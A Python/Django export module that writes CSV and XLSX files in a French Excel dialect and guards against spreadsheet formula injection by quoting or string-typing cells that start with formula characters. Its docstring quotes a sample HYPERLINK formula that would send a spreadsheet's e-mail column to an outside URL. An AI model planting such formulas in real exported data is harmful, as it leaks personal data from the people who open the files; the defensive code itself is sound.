"""Every CSV and XLSX file the platform hands out is written here, in one way.

Cells hold what people typed (job titles, names, free-text answers), and a spreadsheet runs a cell
that starts like a formula: `=HYPERLINK("https://…?d="&A1;"Voir")` in a job title would send the
e-mail column away from the engineer's computer. So text is never a formula:

- CSV: a text starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`
  (OWASP « CSV injection »); `unneutralise` takes it off again when a file is imported back.
- XLSX: every text is a string cell, the dangerous ones also flagged « quote prefix », the way Excel
  stores a value typed after `'`, so that editing the cell does not turn it into a formula either.

Real numbers (int, float, Decimal) stay numbers, negative ones included. One CSV dialect for every
file, the one French Excel opens without an import wizard: UTF-8 with a byte-order mark, `;` between
values, CRLF line ends, a decimal comma (`0,6821`), dates in ISO 8601 (`2026-09-15`, and
`2026-09-15 14:30` in Paris time) that Excel and LibreOffice read as dates whatever the locale and that
scripts parse without guessing the day/month order. XLSX files have real date and number cells, a bold
frozen header row, a filter over the data and column widths fitted to their content.
"""

import csv
import datetime
import decimal
import io
from collections.abc import Iterable
from dataclasses import dataclass
from itertools import chain, islice

from django.http import HttpResponse, StreamingHttpResponse
from django.utils import timezone
from django.utils.http import content_disposition_header
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
BOM = "\ufeff"
DELIMITER = ";"
LINE_END = "\r\n"

# What makes Excel, LibreOffice or Google Sheets read a cell as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

XLSX_DATE_FORMAT = "DD/MM/YYYY"
XLSX_DATETIME_FORMAT = "DD/MM/YYYY HH:MM"
XLSX_MONTH_FORMAT = "MM/YYYY"
MIN_WIDTH, MAX_WIDTH = 8, 60
WIDTH_SAMPLE_ROWS = 200  # rows read to fit the column widths; the rest is streamed


class Month(datetime.date):
    """A month (its first day): `AAAA-MM` in a CSV, a date cell shown `MM/AAAA` in an XLSX."""

    @classmethod
    def of(cls, moment):
        """The month of a date, or of a datetime in Paris time; None stays None."""
        if moment is None:
            return None
        if isinstance(moment, datetime.datetime):
            moment = timezone.localtime(moment)
        return cls(moment.year, moment.month, 1)


def _formula_like(text):
    # Quotes are skipped so that a text typed as `'=x` keeps its quote through export and import.
    return text.lstrip("'").startswith(FORMULA_STARTS)


def neutralise(text):
    """`text` with a leading `'` when a spreadsheet would read it as a formula."""
    return "'" + text if _formula_like(text) else text


def unneutralise(text):
    """Undo `neutralise`: the leading `'` goes only when a formula character comes after the quotes."""
    return text[1:] if text.startswith("'") and _formula_like(text[1:]) else text


def _is_number(value):
    return isinstance(value, int | float | decimal.Decimal) and not isinstance(value, bool)


def _local_naive(moment):
    if timezone.is_aware(moment):
        moment = timezone.make_naive(moment, timezone.get_default_timezone())
    return moment


# --- CSV ----------------------------------------------------------------------------------------


def csv_value(value):
    """The text of one CSV cell in the platform's French dialect."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "oui" if value else "non"
    if isinstance(value, int):
        return str(value)
    if isinstance(value, float | decimal.Decimal):
        return (repr(value) if isinstance(value, float) else format(value, "f")).replace(".", ",")
    if isinstance(value, datetime.datetime):
        return _local_naive(value).strftime("%Y-%m-%d %H:%M")
    if isinstance(value, Month):
        return value.strftime("%Y-%m")
    if isinstance(value, datetime.date):
        return value.isoformat()
    return neutralise(str(value))


class _Echo:
    def write(self, value):
        return value


def csv_chunks(rows: Iterable):
    """The file as text chunks, one per row after the byte-order mark; for streaming and writing."""
    writer = csv.writer(_Echo(), delimiter=DELIMITER, lineterminator=LINE_END)
    yield BOM
    for row in rows:
        yield writer.writerow([csv_value(value) for value in row])


def csv_bytes(rows):
    return "".join(csv_chunks(rows)).encode("utf-8")


def write_csv(path, rows):
    """Write the rows to the file at `path`, row by row."""
    with open(path, "w", encoding="utf-8", newline="") as handle:
        for chunk in csv_chunks(rows):
            handle.write(chunk)


def _attachment(response, filename):
    response["Content-Disposition"] = content_disposition_header(as_attachment=True, filename=filename)
    return response


def csv_response(filename, rows, *, streaming=False):
    """A download of the rows (header first); `streaming` for files too large to hold in memory."""
    if streaming:
        chunks = (chunk.encode("utf-8") for chunk in csv_chunks(rows))
        return _attachment(StreamingHttpResponse(chunks, content_type=CSV_CONTENT_TYPE), filename)
    return _attachment(HttpResponse(csv_bytes(rows), content_type=CSV_CONTENT_TYPE), filename)


# --- XLSX ---------------------------------------------------------------------------------------


@dataclass
class Sheet:
    """One worksheet: `rows` starts with the header unless `table` is False (a page of notes)."""

    title: str
    rows: Iterable
    table: bool = True


def _xlsx_cell(sheet, value, *, bold=False):
    if value is None:
        return None  # an empty cell
    if isinstance(value, datetime.datetime):
        cell = WriteOnlyCell(sheet, value=_local_naive(value))
        cell.number_format = XLSX_DATETIME_FORMAT
    elif isinstance(value, datetime.date):
        cell = WriteOnlyCell(sheet, value=value)
        cell.number_format = XLSX_MONTH_FORMAT if isinstance(value, Month) else XLSX_DATE_FORMAT
    elif _is_number(value):
        cell = WriteOnlyCell(sheet, value=value)
    else:
        if isinstance(value, bool):
            value = "oui" if value else "non"
        # Text pasted from a word processor may hold control characters (a vertical tab for a line
        # break) that the XLSX format refuses: openpyxl would fail on the whole export.
        text = ILLEGAL_CHARACTERS_RE.sub("", str(value))
        cell = WriteOnlyCell(sheet)
        # Assigning a str that starts with "=" makes openpyxl write a formula: the type is set after.
        cell.value = text
        cell.data_type = "s"
        if text.startswith(FORMULA_STARTS):
            cell.quotePrefix = True
    if bold:
        cell.font = Font(bold=True)
    return cell


def _width(value):
    if isinstance(value, datetime.datetime):
        return 16
    if isinstance(value, datetime.date):
        return 10
    text = "" if value is None else str(value)
    return max((len(line) for line in text.splitlines()), default=0)


def _write_sheet(workbook, spec):
    sheet = workbook.create_sheet(title=spec.title[:31])
    rows = iter(spec.rows)
    head = list(islice(rows, WIDTH_SAMPLE_ROWS))
    columns = max((len(row) for row in head), default=0)
    # Widths go before the rows in the file: they are fitted to the first rows only.
    for index in range(columns):
        widest = max((_width(row[index]) for row in head if index < len(row)), default=0)
        sheet.column_dimensions[get_column_letter(index + 1)].width = min(max(widest + 2, MIN_WIDTH), MAX_WIDTH)
    if spec.table and columns:
        sheet.freeze_panes = "A2"  # written before the rows, as the widths
    count = 0
    for count, row in enumerate(chain(head, rows), start=1):
        sheet.append([_xlsx_cell(sheet, value, bold=spec.table and count == 1) for value in row])
    if spec.table and columns:
        sheet.auto_filter.ref = f"A1:{get_column_letter(columns)}{max(count, 1)}"


def xlsx_bytes(sheets):
    """The workbook of `sheets` (Sheet objects), written row by row."""
    workbook = Workbook(write_only=True)
    for spec in sheets:
        _write_sheet(workbook, spec)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_response(filename, sheets):
    return _attachment(HttpResponse(xlsx_bytes(sheets), content_type=XLSX_CONTENT_TYPE), filename)
